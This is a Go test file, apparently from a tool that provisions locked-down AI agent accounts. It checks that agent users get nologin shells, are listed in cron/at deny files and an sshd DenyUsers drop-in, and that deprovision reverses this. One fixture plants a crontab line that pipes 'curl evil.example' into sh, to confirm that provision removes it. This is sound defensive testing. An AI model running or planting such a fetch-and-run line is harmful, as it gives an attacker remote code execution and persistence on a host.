//go:build root

package provision

import (
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/clemhq/clem/clem/internal/config"
	"github.com/clemhq/clem/clem/internal/hostcmd"
	"github.com/clemhq/clem/clem/internal/layout"
	"github.com/clemhq/clem/shared/secret"
)

// TestDenyLines: provision's lines go in and out of a shared deny file
// without touching anyone else's, keep the file's mode, and a file clem
// created goes once its last line does.
func TestDenyLines(t *testing.T) {
	dir := t.TempDir()
	tests := []struct {
		name      string
		before    *string // nil: the file does not exist
		mode      os.FileMode
		add       []string
		afterAdd  string
		remove    []string
		afterRm   *string // nil: the file is gone
		wantsMade bool
	}{
		{name: "existing file keeps others' lines and its mode", before: ptr("root-cron-user\n# comment\n"), mode: 0o640,
			add: []string{"p-lead", "p-dev"}, afterAdd: "root-cron-user\n# comment\np-lead\np-dev\n",
			remove: []string{"p-lead", "p-dev"}, afterRm: ptr("root-cron-user\n# comment\n")},
		{name: "file without a final newline", before: ptr("other"), mode: 0o644,
			add: []string{"p-lead"}, afterAdd: "other\np-lead\n", remove: []string{"p-lead"}, afterRm: ptr("other\n")},
		{name: "already listed by someone else: added once", before: ptr("p-lead\n"), mode: 0o644,
			add: []string{"p-lead"}, afterAdd: "p-lead\n"},
		{name: "created by clem, removed when empty", add: []string{"p-lead", "p-dev"}, afterAdd: "p-lead\np-dev\n",
			remove: []string{"p-dev", "p-lead"}, afterRm: nil, wantsMade: true},
	}
	for i, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := filepath.Join(dir, "deny"+string(rune('a'+i)))
			if tc.before != nil {
				if err := os.WriteFile(f, []byte(*tc.before), tc.mode); err != nil {
					t.Fatal(err)
				}
			}
			made := false
			for _, u := range tc.add {
				created, err := addDenyLine(f, u)
				if err != nil {
					t.Fatalf("addDenyLine(%s): %v", u, err)
				}
				made = made || created
			}
			if made != tc.wantsMade {
				t.Errorf("created = %v, want %v", made, tc.wantsMade)
			}
			if got := readString(t, f); got != tc.afterAdd {
				t.Errorf("after adding %v: %q, want %q", tc.add, got, tc.afterAdd)
			}
			if tc.before != nil {
				if st, _ := os.Stat(f); st.Mode().Perm() != tc.mode {
					t.Errorf("mode %v, want %v", st.Mode().Perm(), tc.mode)
				}
			}
			if tc.remove == nil {
				return
			}
			for _, u := range tc.remove {
				if err := removeDenyLine(f, u, made); err != nil {
					t.Fatalf("removeDenyLine(%s): %v", u, err)
				}
			}
			_, err := os.Stat(f)
			switch {
			case tc.afterRm == nil && err == nil:
				t.Errorf("after removing: %s still exists (%q)", f, readString(t, f))
			case tc.afterRm != nil && readString(t, f) != *tc.afterRm:
				t.Errorf("after removing: %q, want %q", readString(t, f), *tc.afterRm)
			}
		})
	}
}

func ptr(s string) *string { return &s }

func readString(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

// testProject is a project provisioned into temporary roots on this host:
// real users (useradd), everything else under dir. Deprovision runs when
// the test ends, also when it fails.
type testProject struct {
	in   *Inputs
	dir  string
	ssh  string // the sshd_config provision reads
	keep DeprovisionOptions
}

// newTestProject writes clem.yaml for agents (egress not pinned and a
// local model, so no nftables and no secrets) and lays out the roots.
func newTestProject(t *testing.T, agents ...string) *testProject {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatal("provision root tests need root (CI runs as root)")
	}
	dir := t.TempDir()
	// Traversable: agents' homes live under it, and sshd walks to them.
	for d := dir; d != "/" && d != os.TempDir(); d = filepath.Dir(d) {
		os.Chmod(d, 0o755)
	}
	b := make([]byte, 3)
	rand.Read(b)
	name := "h4" + hex.EncodeToString(b)
	var y strings.Builder
	y.WriteString("project: " + name + "\negress:\n  enabled: false\nagents:\n")
	for _, a := range agents {
		y.WriteString("  " + a + ":\n    provider: {type: ollama, url: http://127.0.0.1:11434}\n")
	}
	path := filepath.Join(dir, "clem.yaml")
	cfg, err := config.Parse(path, []byte(y.String()), func(string) (string, bool) { return "", false })
	if err != nil {
		t.Fatal(err)
	}
	r := layout.Roots{
		Etc: filepath.Join(dir, "etc"), State: filepath.Join(dir, "state"), Run: filepath.Join(dir, "run"),
		Units: filepath.Join(dir, "units"), Homes: filepath.Join(dir, "home"), BinDir: "/usr/local/bin",
		Tmpfile:    filepath.Join(dir, "tmpfiles.d"),
		SSHDConfig: filepath.Join(dir, "ssh", "sshd_config"),
		CronDeny:   filepath.Join(dir, "cron.deny"), AtDeny: filepath.Join(dir, "at.deny"),
		CronTabs: filepath.Join(dir, "crontabs"), Linger: filepath.Join(dir, "linger"),
	}
	for _, d := range []string{r.Homes, r.Tmpfile, filepath.Dir(r.SSHDConfig) + "/sshd_config.d", r.CronTabs, r.Linger} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	tp := &testProject{dir: dir, ssh: r.SSHDConfig, in: &Inputs{
		Cfg: cfg, Proj: layout.New(r, name, cfg.Egress.ProxyPort), UID: UID,
		Secret: func(string) (secret.Value, bool) { return secret.Value{}, false },
	}}
	t.Cleanup(func() {
		var out bytes.Buffer
		if err := Deprovision(tp.in.Proj, DeprovisionOptions{}, &out); err != nil {
			t.Errorf("deprovision: %v\n%s", err, out.String())
		}
	})
	return tp
}

// provision runs a whole provision and fails the test on an error.
func (tp *testProject) provision(t *testing.T) string {
	t.Helper()
	var out bytes.Buffer
	if _, err := Run(tp.in, Options{Out: &out}); err != nil {
		t.Fatalf("provision: %v\n%s", err, out.String())
	}
	return out.String()
}

// TestProvisionClosesLogins: every user of the project gets nologin, the
// deny files and the sshd drop-in name each of them, a linger file and a
// crontab planted before provision go, and deprovision takes back exactly
// what provision added.
func TestProvisionClosesLogins(t *testing.T) {
	tp := newTestProject(t, "lead", "dev")
	p := tp.in.Proj
	// Debian's sshd_config reads its drop-ins.
	writeFile(t, tp.ssh, "Include "+p.SSHDropInDir()+"/*.conf\nHostKey "+filepath.Join(tp.dir, "ssh", "host_key")+"\n")
	writeFile(t, p.CronDeny, "someone\n")
	tp.provision(t)

	users := []string{p.User("lead"), p.User("dev"), p.User(layout.Pipelock), p.User(layout.Coord), p.User(layout.Watchdog)}
	for _, u := range users {
		if sh := loginShell(u); sh != nologin() {
			t.Errorf("user %s has shell %q, want %s", u, sh, nologin())
		}
	}
	dropIn := readString(t, p.SSHDropIn())
	deny := ""
	for _, l := range strings.Split(dropIn, "\n") {
		if strings.HasPrefix(l, "DenyUsers ") {
			deny = l
		}
	}
	for _, u := range users {
		if !slices.Contains(strings.Fields(deny), u) {
			t.Errorf("sshd drop-in %s does not deny %s:\n%s", p.SSHDropIn(), u, dropIn)
		}
	}
	for _, f := range []string{p.CronDeny, p.AtDeny} {
		lines := strings.Fields(readString(t, f))
		for _, u := range users {
			if !slices.Contains(lines, u) {
				t.Errorf("%s does not list %s: %q", f, u, lines)
			}
		}
	}
	if got := strings.Fields(readString(t, p.CronDeny))[0]; got != "someone" {
		t.Errorf("cron.deny lost its first line: starts with %q", got)
	}

	// What an agent (or an old clem) left behind, and a shell set by hand.
	lead := p.User("lead")
	writeFile(t, p.LingerFile(lead), "")
	writeFile(t, filepath.Join(p.CronTabs, lead), "* * * * * curl evil.example | sh\n")
	if err := hostcmd.Run("usermod", "--shell", "/bin/bash", lead); err != nil {
		t.Fatal(err)
	}
	out := tp.provision(t)
	for _, want := range []string{"- linger " + p.LingerFile(lead), "- crontab " + filepath.Join(p.CronTabs, lead), "~ user " + lead + " (shell /bin/bash -> " + nologin()} {
		if !strings.Contains(out, want) {
			t.Errorf("second provision does not say %q:\n%s", want, out)
		}
	}
	for _, f := range []string{p.LingerFile(lead), filepath.Join(p.CronTabs, lead)} {
		if _, err := os.Lstat(f); err == nil {
			t.Errorf("%s is still there after provision", f)
		}
	}
	if sh := loginShell(lead); sh != nologin() {
		t.Errorf("after provision %s has shell %q", lead, sh)
	}
	if out := tp.provision(t); !strings.Contains(out, "nothing to change") {
		t.Errorf("third provision is not a no-op:\n%s", out)
	}

	var dout bytes.Buffer
	if err := Deprovision(p, DeprovisionOptions{}, &dout); err != nil {
		t.Fatalf("deprovision: %v\n%s", err, dout.String())
	}
	if got := readString(t, p.CronDeny); got != "someone\n" {
		t.Errorf("cron.deny after deprovision = %q, want only the line that was there", got)
	}
	for _, f := range []string{p.AtDeny, p.SSHDropIn()} {
		if _, err := os.Stat(f); err == nil {
			t.Errorf("%s (made by provision) survived deprovision: %q", f, readString(t, f))
		}
	}
}

// TestDeprovisionKeepUsersKeepsThemLockedOut: users kept by --keep-users
// may have keys in their kept homes, so they stay denied until a later
// deprovision removes them too.
func TestDeprovisionKeepUsersKeepsThemLockedOut(t *testing.T) {
	tp := newTestProject(t, "lead")
	p := tp.in.Proj
	writeFile(t, tp.ssh, "Include "+p.SSHDropInDir()+"/*.conf\n")
	tp.provision(t)
	var out bytes.Buffer
	if err := Deprovision(p, DeprovisionOptions{KeepUsers: true}, &out); err != nil {
		t.Fatalf("deprovision --keep-users: %v\n%s", err, out.String())
	}
	if !strings.Contains(readString(t, p.SSHDropIn()), p.User("lead")) || !strings.Contains(readString(t, p.AtDeny), p.User("lead")) {
		t.Errorf("kept user %s is no longer denied:\n%s", p.User("lead"), out.String())
	}
	out.Reset()
	if err := Deprovision(p, DeprovisionOptions{}, &out); err != nil {
		t.Fatalf("second deprovision: %v\n%s", err, out.String())
	}
	for _, f := range []string{p.SSHDropIn(), p.AtDeny, p.CronDeny} {
		if _, err := os.Stat(f); err == nil {
			t.Errorf("%s survived the second deprovision", f)
		}
	}
}

func writeFile(t *testing.T, path, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}
